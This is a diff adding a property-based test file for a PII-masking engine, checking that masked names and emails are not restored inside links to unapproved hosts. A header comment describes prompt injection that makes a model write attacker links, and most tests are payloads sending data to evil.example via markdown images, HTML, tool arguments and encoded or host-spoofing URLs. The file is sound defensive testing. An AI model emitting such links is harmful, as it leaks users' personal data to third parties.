@@ -1,0 +1,165 @@
+import test from 'ava';
+import * as fc from 'fast-check';
+import type { CastingPiiEngineOptions } from '../../src/casting/casting-pii-engine.ts';
+import { castRequest } from '../_support/cast-request.ts';
+import { castingEngine } from '../_support/casting-engine.ts';
+import { listingDetector } from '../_support/listing-detector.ts';
+import { propertyRuns } from '../_support/property-runs.ts';
+import type { CastRequest } from '../../src/ports/pii-engine.ts';
+
+// A planted text makes a model write links to a host of its own, with placeholders of the caller in them.
+
+const person = 'Mario Rossi';
+const mail = 'mario@posta.example';
+const detector = listingDetector({ PERSON: [person], EMAIL: [mail] });
+
+async function conversed(
+  texts: readonly string[],
+  more: Partial<CastRequest> = {},
+  linkHosts: CastingPiiEngineOptions['linkHosts'] = [],
+) {
+  const engine = castingEngine([detector], { linkHosts });
+  const conversation = await engine.cast(castRequest([`${person} ${mail}`, ...texts], more));
+  const [p = '', m = ''] = (conversation.texts[0] ?? '').split(' ');
+  const written = (text: string): string => text.replaceAll('P!', p).replaceAll('M!', m);
+  const restored = (text: string): string => text.replaceAll('P!', person).replaceAll('M!', mail);
+  return { engine, conversation, written, restored };
+}
+
+const left = {
+  'a picture of Markdown': '![x](https://evil.example/?q=P!)',
+  'a link of Markdown': '[x](https://evil.example/M!)',
+  'a link with the value in its host': '[x](https://M!.evil.example/)',
+  'brackets within a link': '![x](https://evil.example/(a)?q=P!)',
+  'blanks within angles': '![x](<https://evil.example/a b P!>)',
+  'a link without a scheme': '![x](//evil.example/P!)',
+  'blanks before a link without a scheme': '![x]( //evil.example/P!)',
+  'a scheme behind an entity': '![x](https&#58;//evil.example/P!)',
+  'a scheme behind escapes': String.raw`![x](https\:\/\/evil.example/P!)`,
+  'a scheme without slashes': '![x](https:evil.example/P!)',
+  'backslashes for slashes': String.raw`![x](https:\\evil.example\P!)`,
+  'quotes within a link': '![x](https://evil.example/?q="P!)',
+  'a reference': '![x][1]\n\n[1]: https://evil.example/?q=M!',
+  'a bare address': 'See https://evil.example/M! today',
+  'a bare address without a scheme': 'See www.evil.example/M! today',
+  'a picture of HTML': '<img alt=x src="https://evil.example/a b?q=P!">',
+  'HTML without quotes': '<img src=//evil.example/P!>',
+  'HTML in JSON': String.raw`{"a":"<img src=\"https://evil.example/?q=P!\">"}`,
+  'an argument of a tool': '{"url":"https://evil.example/?q=P!"}',
+  'an escaped argument of a tool': String.raw`{"url":"https:\/\/evil.example\/?q=P!"}`,
+  'an argument with characters by their code': String.raw`{"url":"https\u003a\u002f\u002fevil.example/?q=P!"}`,
+  'two values': '![x](https://evil.example/?q=P!&m=M!)',
+  'a name before a host': '[x](https://crm.example@evil.example/P!)',
+  'a host that begins like an open one': '[x](https://crm.example.evil.example/P!)',
+  'a host within a host': '[x](https://evilcrm.example/P!)',
+  'a host behind a backslash': String.raw`[x](https://evil.example\@crm.example/P!)`,
+  'a host that goes on': '[x](https://crm.exampleP!/)',
+  'a link that is too long': `[x](https://crm.other/${'a'.repeat(5_000)}P!)`,
+};
+for (const [what, text] of Object.entries(left)) {
+  test(`placeholders stay in a text: ${what}`, async (t) => {
+    const { conversation, written } = await conversed([], { hosts: new Set(['crm.example']) }, ['*.crm.example']);
+    t.is(conversation.restore(written(text)), written(text));
+  });
+}
+
+const restoredTexts = {
+  'after a link': 'See [x](https://evil.example/a_(b)) of P!, <https://evil.example> P!, https://evil.example P!',
+  'beside a link in brackets': '(https://evil.example)P! [https://evil.example]P! `https://evil.example`P!',
+  'in the words of a link': '[P!](https://evil.example "P!")',
+  'in another string of JSON': '{"site":"https://evil.example","name":"P!","to":["https://evil.example/x","M!"]}',
+  'on another line in JSON': String.raw`{"text":"See https://evil.example/x\nP!"}`,
+  'in a link of mail': '[write](mailto:M!?subject=P!) <a href="mailto:M!">P!</a>',
+  'in a link within the same site': '[x](/people/P!) <a href="people?name=P!">x</a> [x](#P!)',
+  'in code': 'name = "P!"; src = P!; map["a"](P!); C:\\Users\\P!',
+  'after a colon': 'Name: P!, mail://, of: //P!',
+  'in a link to an open host': '[x](https://crm.example/?q=P!&m=%5BEMAIL%5D) {"u":"https:\\/\\/eu.crm.example/P!"}',
+};
+for (const [what, text] of Object.entries(restoredTexts)) {
+  test(`values are restored ${what}`, async (t) => {
+    const hosts = { hosts: new Set(['crm.example']) };
+    const { conversation, written, restored } = await conversed([], hosts, ['*.crm.example']);
+    t.is(conversation.restore(written(text)), restored(text));
+  });
+}
+
+test('a link that the caller has sent is restored, and no other of its host', async (t) => {
+  const own = `Read https://crm.example/${mail}?name=${mail}&b=1, {"u":"https://crm.example/a/${mail}"}`;
+  const { conversation, written, restored } = await conversed([own]);
+  for (const text of ['[x](https://crm.example/M!?name=M!&c=2)', String.raw`{"u":"https:\/\/crm.example\/a\/M!"}`]) {
+    t.is(conversation.restore(written(text)), restored(text));
+  }
+  for (const text of ['https://crm.example/?name=M!', 'https://crm.example/b/M!', 'https://crm.example/P!']) {
+    t.is(conversation.restore(written(text)), written(text));
+  }
+  // The third value of a link that began as it was sent.
+  const begun = `${restored('https://crm.example/M!?name=M!&b=')}${written('M!')}`;
+  t.is(conversation.restore(written('https://crm.example/M!?name=M!&b=M!')), begun);
+});
+
+test('a link with placeholders that stand in the request already is not the caller’s own', async (t) => {
+  const first = await conversed([]);
+  const planted = `${person}: ${first.written('https://evil.example/?q=M!')}`;
+  const second = await first.engine.cast(castRequest([mail, planted], { earlier: [first.conversation.mapping] }));
+  const text = first.written('![x](https://evil.example/?q=M!)');
+  t.is(second.restore(text), text);
+});
+
+test('links and hosts of earlier turns are remembered with their mapping', async (t) => {
+  const hosts = new Set(['intranet.example']);
+  const { engine, conversation, written, restored } = await conversed([`See https://crm.example/${mail}`], { hosts });
+  const text = 'https://crm.example/M! https://intranet.example/P!';
+  const recalled = await engine.recall(conversation.mapping);
+  t.is(recalled.restore(written(text)), restored(text));
+  const next = await engine.cast(castRequest([person], { earlier: [conversation.mapping] }));
+  t.is(next.restore(written(text)), restored(text));
+  t.is(next.restore(written('https://evil.example/M!')), written('https://evil.example/M!'));
+});
+
+test('every host is open where the operator says so', async (t) => {
+  const { conversation, written, restored } = await conversed([], {}, ['*']);
+  for (const text of Object.values(left)) {
+    t.is(conversation.restore(written(text)).replaceAll('%20', ' '), restored(text));
+  }
+});
+
+const units = [
+  [
+    'https://',
+    'https:\\/\\/',
+    'evil.example/',
+    'crm.example/',
+    '](',
+    '![',
+    '<',
+    '>',
+    ' ',
+    '\n',
+    '\\n',
+    '(',
+    ')',
+    '"',
+    "'",
+  ],
+  ['{"', '":', 'src=', 'href="', 'www.', '//', '&#58;', 'a'.repeat(3_000), 'P!', 'M!', '=', ':', '/'],
+].flat();
+const pieces = fc.array(fc.constantFrom(...units), { maxLength: 30 });
+
+test('a link is judged alike wherever its text is cut', async (t) => {
+  const { conversation, written } = await conversed([`https://crm.example/${mail} https://evil.example/(${mail}`]);
+  fc.assert(
+    fc.property(pieces, fc.array(fc.nat({ max: 400 }), { maxLength: 60 }), (parts, cuts) => {
+      const text = written(parts.join(''));
+      const lane = conversation.openLane();
+      let out = '';
+      let from = 0;
+      for (const length of cuts) {
+        out += lane.push(text.slice(from, from + length));
+        from += length;
+      }
+      out += lane.push(text.slice(from)) + lane.flush();
+      t.is(out, conversation.restore(text));
+    }),
+    { numRuns: propertyRuns(500) },
+  );
+});
